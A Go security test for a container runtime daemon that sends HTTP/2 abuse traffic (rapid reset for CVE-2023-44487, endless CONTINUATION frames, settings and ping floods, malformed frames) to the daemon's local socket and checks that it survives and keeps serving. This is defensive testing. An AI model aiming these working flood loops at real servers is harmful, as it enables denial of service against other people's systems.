package security

import (
	"context"
	"net"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	v1 "k8s.io/cri-api/pkg/apis/runtime/v1"

	"crisp.test/tests/system/host"
)

// CVE-2023-44487, CVE-2023-33953 and their kin: what a client does to HTTP/2 does not cost the daemon its life, and once that client
// is gone others are served. Not held by Debian's gRPC 1.51, and so only shown: memory, and service during the attack. Only root can
// reach the socket.
func TestS55HTTP2Abuse(t *testing.T) {
	h := host.Start(t, host.Options{})
	h.Ping()
	for name, abuse := range map[string]func(*http2.Framer){
		"rapid reset": func(f *http2.Framer) {
			for id := uint32(1); id < 20000; id += 2 {
				if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: requestHeaders(), EndHeaders: true}) != nil ||
					f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
					return
				}
			}
		},
		"endless continuation": func(f *http2.Framer) {
			f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: requestHeaders()})
			for i := 0; i < 20000 && f.WriteContinuation(1, false, make([]byte, 1000)) == nil; i++ {
			}
		},
		"settings flood": func(f *http2.Framer) {
			for i := 0; i < 20000 && f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)}) == nil; i++ {
			}
		},
		"ping flood": func(f *http2.Framer) {
			for i := 0; i < 20000 && f.WritePing(false, [8]byte{}) == nil; i++ {
			}
		},
		"garbage": func(f *http2.Framer) {
			for i := 0; i < 100 && f.WriteRawFrame(http2.FrameType(i), 0xff, uint32(i), make([]byte, i*100)) == nil; i++ {
			}
		},
	} {
		conn, err := net.Dial("unix", h.Socket)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		conn.SetDeadline(time.Now().Add(20 * time.Second)) // who refuses to read has answered too
		conn.Write([]byte(http2.ClientPreface))
		framer := http2.NewFramer(conn, nil)
		framer.WriteSettings()
		go discard(conn)
		abuse(framer)
		_, err = h.Raw.Version(context.Background(), &v1.VersionRequest{})
		t.Logf("%s: another client meanwhile: %v", name, err)
		conn.Close()
		for deadline := time.Now().Add(host.Limit); h.Ping() != nil; time.Sleep(10 * time.Millisecond) {
			if time.Now().After(deadline) {
				t.Fatalf("%s: no answer afterwards", name)
			}
		}
		t.Logf("%s: the daemon has %d MiB", name, memory(h.DaemonPid())>>20)
	}
	if pod := h.Pod(); pod.ID == "" {
		t.Error("no pod afterwards")
	}
}

func discard(conn net.Conn) {
	buffer := make([]byte, 65536)
	for {
		if _, err := conn.Read(buffer); err != nil {
			return
		}
	}
}

func requestHeaders() []byte {
	var block blockWriter
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/runtime.v1.RuntimeService/Version"},
		{":authority", "localhost"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	return block
}

type blockWriter []byte

func (w *blockWriter) Write(p []byte) (int, error) {
	*w = append(*w, p...)
	return len(p), nil
}
